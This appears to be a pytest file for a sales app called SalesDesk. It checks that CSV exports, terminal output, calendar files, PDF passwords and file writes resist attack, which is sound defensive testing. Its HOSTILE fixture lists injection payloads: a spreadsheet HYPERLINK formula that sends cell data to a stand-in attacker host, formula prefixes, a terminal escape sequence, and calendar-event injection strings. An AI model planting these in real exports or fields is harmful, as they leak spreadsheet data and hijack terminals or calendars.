"""What SalesDesk writes cannot attack the reader: spreadsheets, terminals, calendars,
PDF passwords, and the files an output path points at."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from datetime import date

import pytest

from salesdesk.domain.deal import DealSheet, Meeting
from salesdesk.files import atomic_write_bytes
from salesdesk.interop.calendar import meetings_ics
from salesdesk.interop.exports import deals_csv
from salesdesk.store import deal_list, deals

TODAY = date(2026, 11, 30)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "Retitled\x1b]0;pwned\x07 terminal\rOverwritten",
]


@pytest.fixture
def hostile_db(db):
    """Deals with hostile titles, in the database the command line of the test reads."""
    for title in HOSTILE:
        deals.save_deal(db, DealSheet(title, "=Account"), today=TODAY)
    return db


def test_deals_csv_neutralises_formulas_and_is_the_apps_export(hostile_db, cli):
    result = cli("deals", "--csv")
    assert result.returncode == 0, result.stderr
    app_export = deals_csv(deal_list.list_deals(hostile_db, date.today()))
    assert result.stdout.replace("\r\n", "\n") == app_export.replace("\r\n", "\n")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("title", "account"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", row[column]), row
    titles = {row["title"] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in titles
    assert "'-2+3" in titles


def test_terminal_output_shows_control_characters_instead_of_obeying_them(hostile_db, cli):
    for argv in (["deals"], ["show", "6"]):
        result = cli(*argv)
        assert result.returncode == 0, result.stderr
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.stdout), argv
        assert "\\x1b]0;pwned\\x07" in result.stdout


def test_a_lone_cr_in_a_meeting_title_cannot_make_extra_calendar_events():
    sheet = DealSheet("Deal\rEND:VEVENT\rBEGIN:VEVENT", "Acme\x1b")
    sheet.uid = "u1"
    sheet.meetings = [
        Meeting(date(2026, 12, d), title=f"Round {d}\rEND:VEVENT\rBEGIN:VEVENT\x07")
        for d in range(1, 7)
    ]
    text = meetings_ics([sheet])
    lines = re.split(r"\r\n|\r|\n", text.replace("\r\n ", ""))
    assert sum(line == "BEGIN:VEVENT" for line in lines) == 6
    assert sum(line == "END:VEVENT" for line in lines) == 6
    assert not re.search(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f]", text)
    assert text.count("\r") == text.count("\r\n")


@pytest.mark.parametrize(
    ("password", "said"),
    [("", "the password is empty"), ("é" * 64, "is 128 bytes long; a PDF password is at most 127")],
)
def test_passwords_a_pdf_cannot_honour_are_refused(hostile_db, cli, tmp_path, password, said):
    out = tmp_path / "brief.pdf"
    result = cli("brief", "1", "-o", str(out), "--password", password)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert said in result.stderr
    assert not out.exists()


def test_writing_through_a_symlink_replaces_its_target_and_keeps_the_link(tmp_path):
    real = tmp_path / "real" / "brief.pdf"
    real.parent.mkdir()
    real.write_bytes(b"old")
    link = tmp_path / "link.pdf"
    link.symlink_to(real)
    atomic_write_bytes(link, b"new")
    assert link.is_symlink() and real.read_bytes() == b"new"
    assert sorted(p.name for p in real.parent.iterdir()) == ["brief.pdf"]


def test_a_target_that_is_not_a_regular_file_is_refused(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    folder = tmp_path / "folder"
    folder.mkdir()
    for target in (fifo, folder):
        with pytest.raises(OSError):
            atomic_write_bytes(target, b"data")
    assert stat.S_ISFIFO(fifo.stat().st_mode) and folder.is_dir()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder", "pipe"]


def test_new_files_honour_the_umask_and_replaced_ones_keep_their_mode(tmp_path):
    old = os.umask(0o022)
    try:
        fresh = tmp_path / "fresh.json"
        atomic_write_bytes(fresh, b"{}")
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o644
        kept = tmp_path / "kept.json"
        kept.write_bytes(b"")
        kept.chmod(0o640)
        atomic_write_bytes(kept, b"{}")
        assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    finally:
        os.umask(old)


def test_the_fifo_is_refused_by_the_command_line_too(hostile_db, cli, tmp_path):
    fifo = tmp_path / "deal.json"
    os.mkfifo(fifo)
    result = cli("export-deal", "1", "-o", str(fifo), timeout=30)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert stat.S_ISFIFO(fifo.stat().st_mode)
